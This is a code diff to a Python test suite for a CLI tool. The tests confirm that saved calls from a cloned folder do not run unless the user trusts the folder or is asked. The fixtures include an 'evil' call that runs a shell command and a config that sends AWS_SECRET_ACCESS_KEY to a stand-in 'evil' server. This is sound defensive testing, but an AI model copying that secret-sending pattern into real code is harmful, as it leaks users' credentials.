@@ -4,14 +4,13 @@ from __future__ import annotations
 
 import json
 import os
-import pty
 import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from inspector.flows.reports import DRY_RUN
+from inspector.calls.reports import DRY_RUN
 from tests.cli.conftest import Run
 from tests.processes import INSPECTOR, environment
 from tests.recording_server import Noting, at, noting
@@ -156,8 +155,8 @@ def test_a_dry_run_starts_no_command_of_a_cloned_folder_unasked(run: Run, clone:
     flow(clone, "evil", "sh -c 'touch started'")
     ran = run("run", "--dry-run")
     assert ran.code == 3
-    assert "Flow evil in " in ran.err
-    assert "was not opened. It is not your own file, and the flow runs sh -c 'touch started'." in ran.err
+    assert "Saved call evil in " in ran.err
+    assert "was not opened. It is not your own file, and the saved call runs sh -c 'touch started'." in ran.err
     assert not (clone / "started").exists()
     ran = run("run", "--dry-run", "--trust")
     assert (clone / "started").exists()
@@ -166,6 +165,8 @@ def test_a_dry_run_starts_no_command_of_a_cloned_folder_unasked(run: Run, clone:
 
 
 def test_a_user_at_a_terminal_is_asked(clone: Path, evil: Noting) -> None:
+    import pty
+
     flow(clone, "evil", at(evil), "{{zone}}")
     (clone / "calls" / "env" / "ci.yaml").write_text("zone: env:AWS_SECRET_ACCESS_KEY\n")
     own, other = pty.openpty()
